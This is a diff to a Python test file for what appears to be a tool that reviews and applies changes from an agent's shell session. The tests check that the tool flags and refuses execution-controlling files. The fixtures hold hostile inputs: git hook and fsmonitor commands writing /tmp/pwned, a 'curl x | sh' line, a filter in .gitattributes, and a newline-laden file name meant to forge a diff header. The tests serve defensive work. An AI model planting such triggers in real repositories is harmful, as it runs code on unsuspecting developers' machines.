@@ -386,9 +386,19 @@ def test_a_repository_the_agent_could_not_see_never_comes_in(env: Env, user: Use
 
 
 def test_what_decides_execution_lands_only_when_named(env: Env, user: User, repo: Path) -> None:
-    """A hook's worth of change (.envrc; a nested repository with its own config) is flagged in review
-    and refused by apply until --theirs names it; a commit that adds one is named when it lands."""
-    sid = shell_session(env, "echo 'export X=1' > .envrc; mkdir sub && cd sub && git init -q && "
+    """A hook's worth of change (.envrc; a nested repository with its own config; a hook in the
+    directory the project's git config names; a directory shaped like a bare repository) is flagged in
+    review and refused by apply until --theirs names it; a commit that adds one is named when it lands.
+    A name with a line break cannot forge a diff's header."""
+    write(user, repo / "githooks" / "pre-commit", "#!/bin/sh\nexit 0\n")
+    git(user, repo, "config", "core.hooksPath", "githooks")
+    git(user, repo, "add", "githooks")
+    git(user, repo, "commit", "-qm", "hooks")
+    sid = shell_session(env, "echo 'touch /tmp/pwned' >> githooks/pre-commit; mkdir -p vendor/bare/objects "
+                             "vendor/bare/refs && echo 'ref: refs/heads/main' > vendor/bare/HEAD && printf "
+                             "'[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > vendor/bare/config; "
+                             "printf 'evil\\n' > \"$(printf 'zz\\n+++ README.md')\"; "
+                             "echo 'export X=1' > .envrc; mkdir sub && cd sub && git init -q && "
                              "git config core.fsmonitor 'touch /tmp/pwned; false'; cd ..; echo fine >> a.txt; "
                              "echo 'curl x | sh' > .husky-like && git add .husky-like && git commit -qm 'tidy'; "
                              "printf '[filter \"x\"]\\n' > /dev/null; echo '* filter=x' > .gitattributes; "
@@ -396,12 +406,15 @@ def test_what_decides_execution_lands_only_when_named(env: Env, user: User, repo
     r = review(env, sid)
     control = {c["path"]: c["control"] for c in r["changes"] if c["control"]}
     assert control.get(".envrc") == ".envrc" and any(v == "sub/.git" for v in control.values()), r["changes"]
+    assert control.get("githooks/pre-commit") == "githooks" and control.get("vendor/bare/config") == "vendor/bare"
+    forged = next(c for c in r["changes"] if c["path"].startswith("zz"))
+    assert "\n+++ README.md" not in forged["diff"] and "zz\\x0a+++ README.md" in forged["diff"], forged
     assert any(".gitattributes" in cm["control"] for cm in r["commits"]), r["commits"]
     before = digest(repo)
     p = cli(env, "apply", sid)
     assert p.returncode == 125 and ".envrc" in p.stderr and "nothing was written" in p.stderr, p.stderr
     assert digest(repo) == before
-    subs = sorted(c["path"] for c in r["changes"] if c["control"] == "sub/.git")
+    subs = sorted(c["path"] for c in r["changes"] if c["control"] in ("sub/.git", "githooks", "vendor/bare"))
     p = cli(env, "apply", sid, "--theirs", ".envrc", *(a for s in subs for a in ("--ours", s)))
     assert p.returncode == 0 and ".gitattributes" in p.stderr, p.stderr  # the commit's, named when it lands
     assert (repo / ".envrc").exists() and not (repo / "sub" / ".git").exists() and (repo / "a.txt").read_text() \
